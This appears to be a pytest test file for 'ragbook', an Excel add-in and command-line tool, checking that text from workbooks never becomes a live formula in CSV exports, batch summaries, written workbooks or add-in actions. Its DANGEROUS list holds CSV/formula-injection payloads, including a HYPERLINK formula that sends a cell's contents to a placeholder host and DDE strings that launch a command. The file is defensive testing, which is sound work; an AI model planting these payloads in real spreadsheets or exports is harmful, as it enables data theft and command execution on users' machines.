"""Text from a workbook never becomes a formula in any output: the CSV export and batch
summary (opened in Excel), the Problems sheet and every other value the add-in writes
(applied by Office.js), and the files ragbook writes (opened in Excel)."""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from conftest import DEMO_PLAN, run_ragbook
from excel_payload import payload_from_workbook
from serving import Server, serve

DANGEROUS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def text(cell, value: str) -> None:
    cell.value = value
    cell.data_type = "s"


@pytest.fixture(scope="module")
def plan(tmp_path_factory) -> Path:
    """The demo plan with formula-like text where officers type text."""
    path = tmp_path_factory.mktemp("formulas") / "plan.xlsx"
    book = openpyxl.load_workbook(DEMO_PLAN)
    actions, measures = book["Actions"], book["Measures"]
    for row, value in enumerate(DANGEROUS, start=2):
        text(actions.cell(row, 5), value)  # Milestone: not understood, so quoted back
        text(actions.cell(row, 4), value)  # Action
        text(measures.cell(row, 3), value)  # Measure
        text(measures.cell(row, 20), value)  # Data note
    text(actions.cell(2, 1), "=1+1")  # a Ref
    text(measures.cell(2, 17), "=HYPERLINK(\"x\")")  # an Actual: not a number
    book.save(path)
    return path


def _number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def unguarded(values) -> list[str]:
    """Text a spreadsheet would read as a formula (a number such as -0.12 is a number)."""
    return [v for v in values if isinstance(v, str) and v.startswith(STARTS) and not _number(v)]


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("a=1", "a=1"), (" =1", " =1"), (-5, -5),
    (0.5, 0.5), (None, None)])
def test_spreadsheet_safe_follows_owasp(value, written):
    from ragbook.export import spreadsheet_safe

    assert spreadsheet_safe(value) == written


def test_the_csv_export_neutralises_formula_text_and_keeps_numbers(plan, tmp_path):
    out = tmp_path / "ratings.csv"
    done = run_ragbook("export", plan, "--format", "csv", "--out", out)
    assert done.returncode in (0, 1), done.stderr
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    cells = [value for row in rows for value in row]
    assert unguarded(cells) == []
    for value in DANGEROUS:
        assert "'" + value in cells
    assert "'=1+1" in cells
    header = rows[0]
    kind, column = header.index("Kind"), header.index("Target")
    target = [row[column] for row in rows[1:] if row[kind] == "measure"]
    assert any(t.replace(".", "").isdigit() for t in target)  # numbers stay numbers


def test_the_json_export_keeps_text_exact(plan, tmp_path):
    out = tmp_path / "ratings.json"
    run_ragbook("export", plan, "--format", "json", "--out", out)
    items = json.loads(out.read_text(encoding="utf-8"))["items"]
    titles = {item["Title"] for item in items}
    for value in DANGEROUS:
        assert value in titles
    assert "=1+1" in {item["Ref"] for item in items}


def test_the_batch_summary_neutralises_formula_text_in_file_names(tmp_path):
    plans = tmp_path / "plans"
    plans.mkdir()
    for name in ("=cmd.xlsx", "+cmd.xlsx", "@SUM(1).xlsx", "-1.xlsx"):
        shutil.copyfile(DEMO_PLAN, plans / name)
    run_ragbook("batch", plans, "--out", tmp_path / "rated")
    rows = list(csv.reader((tmp_path / "rated" / "batch-summary.csv").open(
        encoding="utf-8", newline="")))
    assert unguarded(value for row in rows for value in row) == []
    assert {row[0] for row in rows[1:]} == {"'=cmd.xlsx", "'+cmd.xlsx", "'@SUM(1).xlsx",
                                            "'-1.xlsx"}


@pytest.mark.parametrize("command", [("recalc",), ("appendix", "--into-plan"),
                                     ("appendix",), ("roll-forward", "--force")])
def test_no_file_ragbook_writes_turns_text_into_a_formula(plan, tmp_path, command):
    copy = tmp_path / "plan.xlsx"
    shutil.copyfile(plan, copy)
    args = [*command, copy]
    if command[0] == "roll-forward":
        args += ["--out", tmp_path / "next.xlsx"]
    run_ragbook(*args)
    written = [p for p in tmp_path.glob("*.xlsx") if ".backup" not in p.name]
    assert written
    for path in written:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate}"


@pytest.fixture(scope="module")
def server(tmp_path_factory) -> Iterator[Server]:
    yield from serve(tmp_path_factory.mktemp("formulas-server"))


def _texted_cells(actions: list[dict]) -> set[tuple[int, int, int]]:
    """(sheet, row, column) of every cell the actions format as Text (``@``) first."""
    cells = set()
    for action in actions:
        if action["func"] == "setNumberFormat" and action["args"] == ["@"]:
            for row in range(action["start_row"], action["start_row"] + action["row_count"]):
                for column in range(action["start_column"],
                                    action["start_column"] + action["column_count"]):
                    cells.add((action["sheet_position"], row, column))
    return cells


@pytest.mark.parametrize("script", ["check_milestones", "recalculate_rag", "build_appendix",
                                    "roll_forward"])
def test_every_value_the_add_in_writes_keeps_text_as_text(server, plan, script):
    """Text Excel would read as a formula goes into a cell formatted as Text before it is
    written (or, as a link's text, behind an apostrophe)."""
    answer = server.post(f"/xlwings/custom-scripts-call/{script}",
                         json=payload_from_workbook(plan))
    assert answer.status_code == 200, answer.text
    actions = answer.json()["actions"]
    texted = _texted_cells(actions)
    bare = []
    for number, action in enumerate(actions):
        if action["func"] != "setValues":
            continue
        for i, row in enumerate(action["values"]):
            for j, value in enumerate(row):
                place = (action["sheet_position"], action["start_row"] + i,
                         action["start_column"] + j)
                if unguarded([value]) and place not in texted:
                    bare.append((number, place, value))
        # Formatted before, not after, the value is written.
        later = _texted_cells(actions[number + 1:]) - _texted_cells(actions[:number])
        assert not any(place in later for place in [
            (action["sheet_position"], action["start_row"] + i, action["start_column"] + j)
            for i, row in enumerate(action["values"]) for j, value in enumerate(row)
            if unguarded([value])])
    assert bare == []
    links = [action["args"] for action in actions if action["func"] == "addHyperlink"]
    assert unguarded(arg for args in links for arg in args[1:2]) == []


@pytest.mark.browser
@pytest.mark.parametrize("label", ["Check milestones", "Recalculate RAG", "Build appendix",
                                   "Roll forward"])
def test_no_button_puts_a_formula_in_the_workbook(pane, plan, label):
    """In the task pane, applied by xlwings' own client to the fake Excel, which reads a value
    as Excel does: the only formulas afterwards are the ones the plan had."""
    from fake_excel import state_from_workbook

    before = {(sheet["name"], address) for sheet in state_from_workbook(plan)["sheets"]
              for address, cell in sheet["cells"].items() if "formula" in cell}
    opened = pane(plan)
    opened.click(label)
    after = opened.book().state
    formulas = {(sheet["name"], address) for sheet in after["sheets"]
                for address, cell in sheet["cells"].items() if "formula" in cell}
    assert formulas <= before, sorted(formulas - before)[:5]
    texts = {cell.get("value") for sheet in after["sheets"] for cell in sheet["cells"].values()}
    if label in ("Check milestones", "Build appendix"):
        assert any(isinstance(t, str) and "=HYPERLINK" in t for t in texts)
